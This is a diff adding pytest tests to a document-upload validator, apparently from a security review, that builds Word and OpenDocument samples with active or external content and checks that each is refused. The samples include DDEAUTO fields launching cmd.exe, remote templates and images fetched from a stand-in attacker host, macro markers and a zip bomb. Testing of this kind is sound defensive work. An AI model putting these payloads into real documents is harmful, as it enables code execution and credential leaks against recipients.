@@ -161,3 +161,195 @@ def test_the_upload_handler_refuses_a_body_declared_far_beyond_the_limit(rf):
     with pytest.raises(StopUpload):
         handler.new_file("file", "big.pdf", "application/pdf", None)
     assert request.upload_too_large is True
+
+
+# ---- Security review finding 5: active content in Word and OpenDocument files ----------------
+# ECMA-376 Part 2 (Open Packaging Conventions): relationships with TargetMode="External" are
+# resolved outside the package; Part 1 17.16 (fields): DDE, DDEAUTO, LINK, INCLUDETEXT and
+# INCLUDEPICTURE run a program or fetch content. OpenDocument 1.3 Part 3: Basic/ and Scripts/.
+
+from tests.send_portal.upload_samples import (  # noqa: E402
+    docx_with,
+    odt_with,
+    relationships,
+    word_document,
+)
+
+W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+
+DDE_SPLIT_OVER_RUNS = word_document(
+    "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r>"
+    "<w:r><w:instrText xml:space='preserve'> DDE</w:instrText></w:r>"
+    "<w:r><w:instrText xml:space='preserve'>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "
+    '"/k calc.exe"</w:instrText></w:r>'
+    "<w:r><w:fldChar w:fldCharType='separate'/></w:r><w:r><w:t>1</w:t></w:r>"
+    "<w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>"
+)
+
+ACTIVE_DOCUMENTS = {
+    "an external attached template": (
+        docx_with(
+            {
+                "word/settings.xml": f'<?xml version="1.0"?><w:settings xmlns:w="{W_NS}"/>',
+                "word/_rels/settings.xml.rels": relationships(
+                    ("attachedTemplate", "https://attacker.example/t.dotm", "External")
+                ),
+            }
+        ),
+        "links to content on another computer",
+    ),
+    "a picture fetched from a shared folder": (
+        docx_with(
+            {
+                "word/_rels/document.xml.rels": relationships(
+                    ("image", "file://attacker.example/share/a.png", "External")
+                )
+            }
+        ),
+        "links to content on another computer",
+    ),
+    "a hyperlink to a file share": (
+        docx_with(
+            {
+                "word/_rels/document.xml.rels": relationships(
+                    ("hyperlink", "\\\\attacker.example\\share", "External")
+                )
+            }
+        ),
+        "links to content on another computer",
+    ),
+    "a DDE field split over runs": (docx_with({}, document=DDE_SPLIT_OVER_RUNS), "fields"),
+    "a DDEAUTO simple field": (
+        docx_with(
+            {},
+            document=word_document(
+                "<w:p><w:fldSimple w:instr=' DDEAUTO c:\\\\cmd.exe \"/c calc\"'>"
+                "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"
+            ),
+        ),
+        "fields",
+    ),
+    "an INCLUDEPICTURE field in a header": (
+        docx_with(
+            {
+                "word/header1.xml": f'<?xml version="1.0"?><w:hdr xmlns:w="{W_NS}"><w:p>'
+                "<w:fldSimple w:instr='INCLUDEPICTURE \"http://attacker.example/x.png\"'/>"
+                "</w:p></w:hdr>"
+            }
+        ),
+        "fields",
+    ),
+    "an embedded OLE object": (
+        docx_with({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 60}),
+        "embedded objects or controls",
+    ),
+    "an ActiveX control": (
+        docx_with(
+            {
+                "word/activeX/activeX1.xml": '<?xml version="1.0"?><ax:ocx xmlns:ax="urn:x"/>',
+                "word/activeX/activeX1.bin": b"\x00" * 64,
+            }
+        ),
+        "embedded objects or controls",
+    ),
+    "vbaData.xml": (
+        docx_with({"word/vbaData.xml": '<?xml version="1.0"?><wne:vbaSuppData xmlns:wne="x"/>'}),
+        "contains macros",
+    ),
+    "a macro-enabled content type": (
+        docx_with(
+            {
+                "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.'
+                'openxmlformats.org/package/2006/content-types"><Override PartName="/word/'
+                'document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main'
+                '+xml"/></Types>'
+            }
+        ),
+        "contains macros",
+    ),
+}
+
+
+@pytest.mark.parametrize("what", sorted(ACTIVE_DOCUMENTS))
+def test_a_word_document_with_active_or_external_content_is_refused(what):
+    content, message = ACTIVE_DOCUMENTS[what]
+    with pytest.raises(UploadRefused, match=message):
+        check_upload(upload("report.docx", content))
+
+
+ACTIVE_OPENDOCUMENTS = [
+    ("Scripts/", odt_with(extra={"Scripts/python/run.py": "import os"}), "contains macros"),
+    ("Basic/", odt_with(extra={"Basic/Standard/Module1.xml": "<x/>"}), "contains macros"),
+    (
+        "an event listener",
+        odt_with(
+            "<office:event-listeners><script:event-listener script:event-name='dom:load' "
+            "xlink:href='vnd.sun.star.script:Standard.Module1.Run'/>"
+            "</office:event-listeners><text:p>Hi</text:p>"
+        ),
+        "contains macros",
+    ),
+    (
+        "a DDE connection",
+        odt_with(
+            "<text:dde-connection-decls><text:dde-connection-decl/></text:dde-connection-decls>"
+        ),
+        "fields",
+    ),
+    (
+        "a linked picture",
+        odt_with(
+            "<draw:frame><draw:image xlink:href='http://attacker.example/a.png'/></draw:frame>"
+        ),
+        "links to content on another computer",
+    ),
+    ("an OLE object", odt_with(extra={"Object 1": b"\xd0\xcf\x11\xe0"}), "embedded objects"),
+]
+
+
+@pytest.mark.parametrize(
+    "what,content,message", ACTIVE_OPENDOCUMENTS, ids=[row[0] for row in ACTIVE_OPENDOCUMENTS]
+)
+def test_an_opendocument_file_with_active_or_external_content_is_refused(what, content, message):
+    with pytest.raises(UploadRefused, match=message):
+        check_upload(upload("views.odt", content))
+
+
+def test_a_word_document_that_is_a_zip_bomb_is_refused():
+    """About 50 MB of zeros squeezed into about 50 KB: refused from the archive's directory,
+    before anything is decompressed."""
+    content = docx_with({"word/media/image1.png": b"\x00" * (50 * 1024 * 1024)})
+    assert len(content) < 200 * 1024
+    with pytest.raises(UploadRefused, match="expands to more than"):
+        check_upload(upload("report.docx", content))
+
+
+def test_a_word_document_expanding_past_the_limit_is_refused(settings):
+    settings.SEND_PORTAL_UPLOAD_MAX_EXPANDED_BYTES = 10 * 1024
+    import os
+
+    content = docx_with({"word/media/image1.png": os.urandom(20 * 1024)})
+    with pytest.raises(UploadRefused, match="expands to more than 10 KB"):
+        check_upload(upload("report.docx", content))
+
+
+def test_ordinary_word_and_opendocument_files_with_web_links_are_accepted():
+    word = docx_with(
+        {
+            "word/_rels/document.xml.rels": relationships(
+                (
+                    "hyperlink",
+                    "https://www.gov.uk/children-with-special-educational-needs",
+                    "External",
+                ),
+                ("styles", "styles.xml", ""),
+            ),
+            "word/styles.xml": f'<?xml version="1.0"?><w:styles xmlns:w="{W_NS}"/>',
+        },
+        document=word_document(
+            "<w:p><w:fldSimple w:instr=' PAGE '><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>"
+        ),
+    )
+    assert check_upload(upload("report.docx", word)).extension == "docx"
+    odt = odt_with("<text:p><text:a xlink:href='https://www.gov.uk/'>GOV.UK</text:a></text:p>")
+    assert check_upload(upload("views.odt", odt)).extension == "odt"
